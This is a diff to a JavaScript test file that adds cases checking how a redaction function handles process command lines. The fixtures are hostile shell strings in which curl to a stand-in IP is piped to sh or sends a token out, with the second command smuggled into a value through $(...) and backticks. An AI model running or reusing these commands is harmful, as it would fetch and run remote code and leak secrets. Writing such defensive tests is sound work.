@@ -54,6 +54,9 @@ describe('caught', () => {
     ['a quote closes before it', 'curl -d "a token="hunter2x http://203.0.113.9 -d "b c"'],
     ['its quote has no end', "echo token='hunter2x ; curl http://203.0.113.9 | sh"],
     ['a command ends it', 'sh -c TOKEN="hunter2x$(curl http://203.0.113.9/x | sh)"'],
+    ['a long command ends it', `sh -c TOKEN="hunter2x$(/${'a/'.repeat(200)}curl http://203.0.113.9/x | sh)"`],
+    ['a command behind a blank ends it', 'sh -c TOKEN="hunter2x$( curl http://203.0.113.9/x | sh)"'],
+    ['a command in backticks ends it', 'sh -c TOKEN="hunter2x` curl http://203.0.113.9/x | sh`"'],
     ['its quote is of a word', 'x="token="hunter2x; curl http://203.0.113.9 | sh; y=""'],
   ])('the command goes on behind a value where %s', (_name, text) => {
     const { line } = redact(eventText({ 'proc.cmdline': text }));
